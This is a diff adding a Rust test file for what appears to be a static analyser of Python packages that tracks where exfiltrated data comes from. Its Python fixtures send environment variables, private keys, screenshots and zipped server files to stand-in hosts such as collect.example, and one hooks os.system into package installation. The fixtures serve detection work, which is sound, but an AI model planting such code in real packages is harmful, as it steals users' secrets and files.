@@ -1,0 +1,143 @@
+//! Claims about values that branches leave behind, and about code whose callers are out of sight.
+
+mod common;
+
+use common::{analysis_of, calls, event, events_of};
+use venin_model::{OriginKind, Role, Trigger};
+
+const BRANCHES: &str = "\
+import os, requests
+class Context:
+    def __init__(self):
+        if os.environ.get('A') is not None:
+            self.a = os.environ.get('A')
+        else:
+            self.a = 'empty'
+        requests.get('https://collect.example/' + self.a)
+Context()
+";
+
+#[test]
+fn an_attribute_has_the_values_of_all_branches() {
+    let event = event(BRANCHES, "requests.get");
+    let urls = event.arguments.iter().filter(|a| a.role == Role::Url);
+    let texts: Vec<String> = urls.filter_map(|a| Some(a.value.as_ref()?.text.to_string())).collect();
+    assert!(texts.iter().any(|t| t.contains("os.environ")), "{texts:?}");
+    assert!(texts.iter().any(|t| t.ends_with("/empty")), "{texts:?}");
+}
+
+#[test]
+fn an_attribute_that_is_set_before_a_return_outlives_the_call() {
+    let source = "\
+import os, requests
+class Context:
+    def set(self):
+        if os.environ.get('A'):
+            self.a = 'https://collect.example/'
+            return
+        print(self)
+c = Context()
+c.set()
+requests.get(c.a)
+";
+    assert_eq!(event(source, "requests.get").text(Role::Url), Some("https://collect.example/"));
+}
+
+#[test]
+fn an_attribute_that_one_branch_leaves_open_is_what_the_other_fills() {
+    let source = "\
+import os, requests
+class Context:
+    def __init__(self):
+        self.a = None
+        if os.environ.get('A'):
+            self.a = 'https://collect.example/'
+        else:
+            self.a = None
+        requests.get(self.a)
+Context()
+";
+    assert_eq!(event(source, "requests.get").text(Role::Url), Some("https://collect.example/"));
+}
+
+#[test]
+fn a_text_of_more_alternatives_than_are_kept_shows_where_its_parts_come_from() {
+    let source = "\
+import os, requests
+a = os.environ.get('A') if os.path.exists('a') else 'none'
+b = os.environ.get('B') if os.path.exists('b') else 'none'
+c = os.environ.get('C') if os.path.exists('c') else 'none'
+d = os.environ.get('D') if os.path.exists('d') else 'none'
+requests.get('https://collect.example/' + a + '/' + b + '/' + c + '/' + d)
+";
+    let event = event(source, "requests.get");
+    let url = event.text(Role::Url).expect("something of the address is known");
+    assert!(url.starts_with("https://collect.example/"), "{url}");
+}
+
+#[test]
+fn a_function_that_turns_away_whoever_passes_nothing_is_run_with_something() {
+    let source = "\
+import requests
+def from_key(private_key=None):
+    if private_key is None:
+        raise KeyError('no key')
+    requests.get('https://collect.example/?k=' + private_key)
+";
+    let event = event(source, "requests.get");
+    let url = event.argument(Role::Url).expect("there is an address");
+    assert!(url.origins.kinds.contains(OriginKind::Argument));
+}
+
+#[test]
+fn a_method_that_turns_away_whoever_passes_nothing_is_run_with_something() {
+    let source = "\
+import requests
+class Wallet:
+    def first(self):
+        return 1
+    def show(self, text=None):
+        if text is None:
+            return None
+        requests.get('https://collect.example/?k=' + text)
+";
+    assert_eq!(events_of(source).iter().filter(|e| &*e.name == "requests.get").count(), 1);
+}
+
+#[test]
+fn a_command_class_that_nothing_visible_registers_runs_at_installation() {
+    let source = "\
+import os
+from setuptools import setup
+from setuptools.command.install import install
+class Command(install):
+    def run(self):
+        os.system('echo a')
+setup(name='pkg')
+";
+    let events = analysis_of(&[("setup.py", source, Trigger::Install)]).events;
+    let started = events.iter().find(|e| &*e.name == "os.system");
+    assert_eq!(started.map(|e| e.trigger), Some(Trigger::Install));
+}
+
+#[test]
+fn a_buffer_holds_what_is_saved_to_it_and_what_an_archive_on_it_packs() {
+    for source in [
+        "import io, pyautogui, requests\nb = io.BytesIO()\npyautogui.screenshot().save(b, 'PNG')\nrequests.post('https://a.example/', data=b.getvalue())",
+        "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/srv/a')\nz.close()\nrequests.post('https://a.example/', data=b.getvalue())",
+    ] {
+        let events = events_of(source);
+        let sent = events.iter().find(|e| &*e.name == "requests.post").expect("a request is sent");
+        let data = sent.argument(Role::Data).expect("the request has data");
+        let made = ["pyautogui.screenshot", "zipfile.ZipFile().write"];
+        let carried =
+            |name: &str| events.iter().any(|e| &*e.name == name && data.origins.events.contains(&e.id));
+        assert!(made.iter().any(|name| carried(name)), "{source}: {data:?}");
+    }
+}
+
+#[test]
+fn a_secret_that_a_foreign_function_takes_for_nothing_is_an_event() {
+    let source = "import zz_words\ndef a(mnemonic):\n    zz_words.decode(mnemonic)\ndef b(mnemonic):\n    return zz_words.encode(mnemonic)\n";
+    assert_eq!(calls(source), ["zz_words.decode"]);
+}
